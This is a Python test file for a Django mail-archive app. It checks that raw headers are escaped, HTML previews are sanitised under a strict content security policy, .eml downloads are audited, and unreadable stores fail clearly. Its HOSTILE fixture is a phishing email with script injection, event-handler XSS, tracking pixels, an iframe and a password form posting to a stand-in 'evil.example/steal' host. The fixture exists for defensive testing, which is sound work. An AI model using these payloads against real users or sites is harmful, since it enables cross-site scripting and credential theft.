"""Headers, preview and .eml read from a real Maildir store: audited, sanitised, and failing
clearly when the store cannot be read."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse
from selectolax.lexbor import LexborHTMLParser

from clawback.audit.models import AuditEvent
from clawback.mail.models import MessageCopy
from clawback.mail.sync import sync_mailbox
from clawback.mailstores.actions import do_add_store
from clawback.mailstores.connectors.base import FolderClass, Ref
from clawback.mailstores.connectors.maildir.connector import MaildirConnector
from clawback.mailstores.models import Store
from clawback.web.tests.conftest import fast_password_hashing  # noqa: F401  (autouse)

pytestmark = pytest.mark.django_db

BOX = "ann@example.test"
PREVIEW_CSP = "default-src 'none'; style-src 'unsafe-inline'; img-src data:; frame-ancestors 'self'"

HOSTILE = (
    b"Return-Path: <bounce@evil.example>\r\n"
    b"Received: from mx.evil.example (mx.evil.example [198.51.100.7]) by mx1.example.test; "
    b"Mon, 16 Nov 2026 10:00:00 +0000\r\n"
    b"Message-ID: <hostile@evil.example>\r\n"
    b"From: IT Helpdesk <it@evil.example>\r\n"
    b"To: ann@example.test\r\n"
    b"Subject: Verify <script>alert('subject')</script>\r\n"
    b"X-Evil: <img src=https://tracker.evil.example/h.gif>\r\n"
    b"Date: Mon, 16 Nov 2026 10:00:00 +0000\r\n"
    b"MIME-Version: 1.0\r\n"
    b'Content-Type: multipart/alternative; boundary="b1"\r\n'
    b"\r\n"
    b"--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nDear customer, verify your account.\r\n"
    b"--b1\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
    b"<html><head><style>body{background:url(https://tracker.evil.example/css.png)}</style>"
    b"<script>parent.document.title='pwned'</script></head>"
    b'<body onload="alert(1)"><p onclick="alert(2)">Dear <b>customer</b>, verify your account.</p>'
    b'<a href="https://login.evil.example/verify">Verify now</a>'
    b'<img src="https://tracker.evil.example/pixel.gif" alt="logo">'
    b'<iframe src="https://evil.example/frame"></iframe>'
    b'<form action="https://evil.example/steal"><input name="password"><button>Sign in</button></form>'
    b"</body></html>\r\n"
    b"--b1--\r\n"
)
PLAIN = (
    b"Message-ID: <plain@evil.example>\r\nFrom: it@evil.example\r\nTo: ann@example.test\r\n"
    b"Subject: Plain\r\nContent-Type: text/plain\r\n\r\n<b>not markup</b> & https://evil.example/x\r\n"
)


@pytest.fixture
def maildir(tmp_path: Path) -> Path:
    for folder in ("", ".Junk"):
        for sub in ("cur", "new", "tmp"):
            (tmp_path / BOX / folder / sub).mkdir(parents=True, exist_ok=True)
    return tmp_path


@pytest.fixture
def store(maildir: Path) -> Store:
    return do_add_store("local", "maildir", params={"path": str(maildir)}, acting_user="test")


def deliver_and_index(store: Store, maildir: Path, raw: bytes) -> MessageCopy:
    """Put ``raw`` in the INBOX and sync it into the index; return its copy."""
    ref = MaildirConnector({"path": str(maildir)}, {}).append(BOX, FolderClass.INBOX, raw)
    assert ref is not None
    sync_mailbox(store.mailboxes.get(address=BOX).pk)
    return MessageCopy.objects.get(ref=ref.encode())


@pytest.fixture
def hostile(store: Store, maildir: Path) -> MessageCopy:
    return deliver_and_index(store, maildir, HOSTILE)


def stored_file(maildir: Path, copy: MessageCopy) -> Path:
    key = Ref.decode(copy.ref).key
    [path] = [p for p in (maildir / BOX).glob("*/*") if p.name.split(":2,")[0] == key]
    return path


def _url(name: str, copy: MessageCopy) -> str:
    return reverse(name, kwargs={"message_id": copy.pk})


def _events(action: str) -> list[AuditEvent]:
    return list(AuditEvent.objects.filter(action=action))


def _assert_audited(action: str, copy: MessageCopy, who: str, content: str) -> None:
    [event] = _events(action)
    assert event.actor_name == who
    assert (event.object_type, event.object_id) == ("mail.messagecopy", str(copy.pk))
    assert event.data == {"message_id": copy.message_id, "recipient": BOX, "content": content}
    assert event.request_id


# --- Headers --------------------------------------------------------------------------------


def test_headers_tab_shows_the_raw_block_escaped_and_audits(client: Client, hostile: MessageCopy, carol: User) -> None:
    client.force_login(carol)
    response = client.get(_url("explorer-message-headers", hostile))
    assert response.status_code == 200
    html = response.content.decode()
    block = html.split('<pre id="raw-headers" class="raw-headers">', 1)[1].split("</pre>", 1)[0]
    assert block.startswith("Return-Path: &lt;bounce@evil.example&gt;\nReceived: from mx.evil.example")
    assert "Subject: Verify &lt;script&gt;alert(&#x27;subject&#x27;)&lt;/script&gt;" in block
    assert "X-Evil: &lt;img src=https://tracker.evil.example/h.gif&gt;" in block
    assert "Dear customer" not in block  # the body is not part of the header block
    assert "no-store" in response["Cache-Control"]
    _assert_audited("message.headers.view", hostile, "carol", "raw header block")


# --- Preview --------------------------------------------------------------------------------


def test_preview_frame_has_its_own_strict_policy(client: Client, hostile: MessageCopy, carol: User) -> None:
    client.force_login(carol)
    response = client.get(_url("explorer-message-preview-frame", hostile))
    assert response.status_code == 200
    assert response["Content-Security-Policy"] == PREVIEW_CSP
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["X-Frame-Options"] == "SAMEORIGIN"
    assert response["Referrer-Policy"] == "no-referrer"
    assert "no-store" in response["Cache-Control"]
    assert response["Content-Type"] == "text/html; charset=utf-8"


def test_preview_frame_is_sanitised_and_audited(client: Client, hostile: MessageCopy, carol: User) -> None:
    client.force_login(carol)
    html = client.get(_url("explorer-message-preview-frame", hostile)).content.decode()
    tree = LexborHTMLParser(html)
    body = tree.css_first("#preview-body")
    assert body is not None
    assert "Dear customer, verify your account." in body.text()
    assert "Verify now" in body.text() and "Sign in" in body.text()
    assert tree.css_first("script, iframe, form, input, object, embed") is None
    assert len(tree.css("style")) == 1  # ours, in the head; the mail's is gone
    assert "tracker.evil.example/css.png" not in html
    for node in tree.css("*"):
        assert not any(name.startswith("on") for name in node.attributes), node.tag
        assert "href" not in node.attributes and "action" not in node.attributes
        assert "src" not in node.attributes, node.attributes
    link = body.css_first("a")
    assert link is not None and link.attributes["title"] == "Link (disabled): https://login.evil.example/verify"
    notice = tree.css_first("#preview-notice")
    assert notice is not None and "1 image blocked" in notice.text() and "1 link disabled" in notice.text()
    _assert_audited("message.preview.view", hostile, "carol", "sanitised preview of the body")


def test_preview_of_a_text_message_is_escaped_text(client: Client, store: Store, maildir: Path, alice: User) -> None:
    copy = deliver_and_index(store, maildir, PLAIN)
    client.force_login(alice)
    html = client.get(_url("explorer-message-preview-frame", copy)).content.decode()
    assert "<pre>&lt;b&gt;not markup&lt;/b&gt; &amp; https://evil.example/x\r\n</pre>" in html
    assert "(text part)" in html


# --- Download ---------------------------------------------------------------------------------


def test_eml_download_is_the_stored_file(client: Client, hostile: MessageCopy, maildir: Path, carol: User) -> None:
    client.force_login(carol)
    response = client.get(_url("explorer-message-eml", hostile))
    assert response.status_code == 200
    assert response["Content-Type"] == "message/rfc822"
    assert (
        response["Content-Disposition"]
        == f'attachment; filename="clawback-{hostile.pk}-verify-scriptalertsubjectscript.eml"'
    )
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response.content == stored_file(maildir, hostile).read_bytes() == HOSTILE
    _assert_audited("message.eml.download", hostile, "carol", "raw message (.eml)")


# --- The store cannot be read ---------------------------------------------------------------


def test_unreachable_store_errors_clearly_and_the_rest_works(
    client: Client, hostile: MessageCopy, maildir: Path, carol: User
) -> None:
    shutil.rmtree(maildir / BOX)
    client.force_login(carol)

    overview = client.get(_url("explorer-message", hostile))
    assert overview.status_code == 200
    assert "Verify &lt;script&gt;" in overview.content.decode()

    headers = client.get(_url("explorer-message-headers", hostile)).content.decode()
    error = LexborHTMLParser(headers).css_first("#content-error")
    assert error is not None
    assert "could not be read from its mail store" in error.text()
    assert f"no Maildir for {BOX}" in error.text()
    assert 'id="raw-headers"' not in headers

    frame = client.get(_url("explorer-message-preview-frame", hostile))
    assert frame.status_code == 502
    assert frame["Content-Security-Policy"] == PREVIEW_CSP
    assert 'id="preview-error"' in frame.content.decode()

    download = client.get(_url("explorer-message-eml", hostile), follow=True)
    assert download.redirect_chain == [(_url("explorer-message", hostile), 302)]
    assert "The message could not be downloaded" in download.content.decode()

    assert not AuditEvent.objects.filter(action__startswith="message.").exists()


def test_a_message_gone_since_the_last_sync_says_so(
    client: Client, hostile: MessageCopy, maildir: Path, carol: User
) -> None:
    stored_file(maildir, hostile).unlink()
    client.force_login(carol)
    html = client.get(_url("explorer-message-headers", hostile)).content.decode()
    error = LexborHTMLParser(html).css_first("#content-error")
    assert error is not None and "no longer in INBOX of ann@example.test on local" in error.text()
    assert not AuditEvent.objects.filter(action__startswith="message.").exists()
